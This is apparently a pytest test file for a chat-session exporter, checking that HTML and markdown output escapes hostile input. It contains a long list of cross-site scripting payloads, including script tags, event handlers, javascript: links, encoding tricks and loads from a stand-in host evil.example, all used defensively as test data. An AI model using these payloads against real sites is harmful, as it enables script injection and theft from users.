"""Nothing of a session can run in its page: known attacks in every place, and text of any kind."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fakes.page_reader import PageReader
from fakes.session_entries import AT, HEADER, answered, entry, page, resulted, said, stats
from pigeon.export.escaping import escaped, plain
from pigeon.export.markdown import TextFormatter
from pigeon.wire.content import Attachment, ImageContent, TextContent, ThinkingContent, ToolCall
from pigeon.wire.entries import (
    BranchSummaryEntry,
    CompactionEntry,
    CustomMessageEntry,
    ModelChange,
    ThinkingLevelChange,
)
from pigeon.wire.messages import BashExecutionMessage, CustomMessage, UserMessage

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT >",
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre></details></article><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x:x onerror\n=\nalert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "`onmouseover=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    '![" onerror="alert(1)](x)',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<script>alert(1)</script>\x00",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
]


def everywhere(text: str) -> list[object]:
    base = {"id": text, "parent_id": text, "timestamp": text}
    call = ToolCall(id=text, name=text, arguments={text: text, "command": text, "deep": [{text: [text, None, 1.5]}]})
    picture = ImageContent(data=text, mime_type=text)
    encoded = ImageContent(data=base64.b64encode(text.encode("utf-8", "replace")).decode(), mime_type=text)
    shell = BashExecutionMessage(command=text, output=text, cancelled=False, truncated=False, timestamp=AT)
    attached = [Attachment(type="document", file_name=text, mime_type=text, content=text)]
    return [
        said(text, picture, encoded),
        said("two"),
        said("three"),
        entry(UserMessage(content=text, timestamp=AT, attachments=attached)),
        answered(text, ThinkingContent(thinking=text), call, stop="error", error=text, model=text),
        resulted(text, text, failed=True, details={"diff": f"+{text}\n-{text}", text: text}),
        resulted("stray", text),
        entry(shell),
        entry(CustomMessage(custom_type=text, content=[TextContent(text=text)], display=True, timestamp=AT)),
        CustomMessageEntry(**base, custom_type=text, content=text, display=False),
        CompactionEntry(**base, summary=text, first_kept_entry_id=text, tokens_before=1),
        BranchSummaryEntry(**base, summary=text, from_id=text),
        ModelChange(**base, provider=text, model_id=text),
        ThinkingLevelChange(**base, thinking_level=text),
        {"type": text, "timestamp": text, text: {text: text}},
    ]


def hostile_page(text: str) -> str:
    header = {"id": text, "timestamp": text, "cwd": text, "parentSession": text}
    return page(header, everywhere(text), stats(), text)  # type: ignore[arg-type]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_every_place_of_a_session_stays_text(attack: str) -> None:
    made = hostile_page(attack)
    reader = PageReader(made)
    assert reader.faults == []
    assert reader.pictures == []
    assert "<script" not in made.lower()
    assert reader.styles == 1


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_still_there_to_be_read(attack: str) -> None:
    assert plain(attack).strip() in PageReader(page(HEADER, [resulted("c", attack)], stats())).text


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "javascript" in attack.lower()])
def test_no_link_leads_to_a_script(attack: str) -> None:
    links = PageReader(hostile_page(attack)).links
    assert [link for link in links if "script" in link.lower().partition("//")[0]] == []


def test_a_picture_of_the_web_is_a_link_and_asks_nobody() -> None:
    made = PageReader(f"<html><body>{TextFormatter().prose('![cat](https://a.example/cat.png)')}</body></html>")
    assert made.pictures == []
    assert made.links == ["https://a.example/cat.png"]
    assert "cat" in made.text


def test_a_link_to_a_file_of_the_project_is_only_its_text() -> None:
    made = TextFormatter().prose("see [the parser](src/parser.py) and [top](#x) and [net](//a.example/x)")
    assert "href" not in made
    assert "the parser" in made


def test_links_say_that_they_lead_nowhere_else_with_them() -> None:
    assert 'rel="noopener noreferrer nofollow"' in TextFormatter().prose("[x](https://a.example)")


@given(st.text())
def test_any_text_in_any_place_is_harmless(text: str) -> None:
    assert PageReader(hostile_page(text)).faults == []


SNIPPETS = st.sampled_from(
    ["<", ">", '"', "'", "&", "[", "](", ")", "!", "`", "```", "\n", "|", "---", "*", "#", "javascript:", "on", "=",
     "x", " ", "script", "img src=x ", "<a href=", "/", "\\", "&#106;", "http://a", "<!--", "-->", "\x00", "\t"]
)  # fmt: skip


@given(st.lists(SNIPPETS, max_size=40).map("".join))
def test_any_mixture_of_markup_is_harmless(text: str) -> None:
    assert PageReader(hostile_page(text)).faults == []


@given(st.text())
def test_escaped_text_reads_back_as_the_plain_text(text: str) -> None:
    assert PageReader(f"<html><body><pre>x{escaped(text)}</pre></body></html>").text == "x" + plain(text)
